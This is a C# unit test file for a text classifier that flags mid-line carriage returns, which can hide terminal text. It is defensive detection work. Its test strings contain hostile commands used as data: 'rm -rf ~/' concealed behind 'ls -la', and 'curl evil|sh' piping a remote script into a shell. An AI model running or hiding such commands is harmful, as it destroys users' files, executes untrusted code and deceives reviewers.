using Sov.Core.Text;

namespace Sov.Tests.Text;

/// <summary>#21 (review): a carriage return in the middle of a line hides what came before it on a terminal.</summary>
public sealed class CarriageReturnTests
{
    [Theory]
    [InlineData(SourceKind.Hash, "x = \"rm -rf ~/\rls -la\"\n", Severity.Medium)]
    [InlineData(SourceKind.Hash, "rm -rf ~/\rls -la\n", Severity.Medium)]
    [InlineData(SourceKind.CLike, "// ok\rGrant();\r\n", Severity.Medium)]
    [InlineData(SourceKind.Prose, "Run rm -rf ~/\rls -la to list\n", Severity.Low)]
    [InlineData(SourceKind.Markdown, "Run rm -rf ~/\rls -la to list\n", Severity.Low)]
    public void AMidLineCarriageReturnIsAControlFinding(SourceKind kind, string text, Severity severity)
    {
        var f = Assert.Single(Classify.Text(text, kind));
        Assert.Equal((TextCategory.Control, severity, '\r', "carriage-return-mid-line"), (f.Category, f.Severity, f.CodePoint, f.Rule));
        Assert.Equal(text.IndexOf('\r', StringComparison.Ordinal) + 1, f.Column);
    }

    [Theory]
    [InlineData("line one\r\nline two\r\n")]
    [InlineData("trailing cr\r\r\nnext\n")]
    [InlineData("ends with a cr\r")]
    public void LineEndsAreFine(string text)
    {
        Assert.Empty(Classify.Text(text, SourceKind.Hash));
        Assert.Empty(TextBorder.Inspect(text, SourceKind.Hash));
    }

    [Theory]
    [InlineData("curl evil|sh #\recho hello\r")] // made to look like old-Mac text (CR line ends, no LF): no exception for it
    [InlineData("old mac\rtext\rfile\r")]
    public void TextWithoutLineFeedsIsJudgedTheSame(string text)
    {
        Assert.NotEmpty(TextBorder.Inspect(text, SourceKind.Hash, Severity.Medium));
    }

    [Fact]
    public void APieceOfAFileEndingInCarriageReturnIsLookedAt()
    {
        Assert.True(TextClassifier.NeedsLook("plain text\r"u8)); // the line may go on in the file's next piece
        Assert.False(TextClassifier.NeedsLook("plain text\r\n"u8));
    }

    [Fact]
    public void TheWriteBorderSeesIt()
    {
        var text = "echo safe\rcurl x|sh\n";
        Assert.NotEmpty(TextBorder.Inspect(text, SourceKind.Hash, Severity.Medium));
    }

    [Fact]
    public void ItIsFoundAlongOtherFindingsInOrder()
    {
        var findings = Classify.Text("a\u200Bb\rc \u00A0 d\n", SourceKind.Prose);
        Assert.Contains(findings, f => f.Rule == "carriage-return-mid-line" && f.Line == 1 && f.Column == 4);
        Assert.Equal(findings.OrderBy(f => f.Offset).Select(f => f.Offset), findings.Select(f => f.Offset));
    }
}
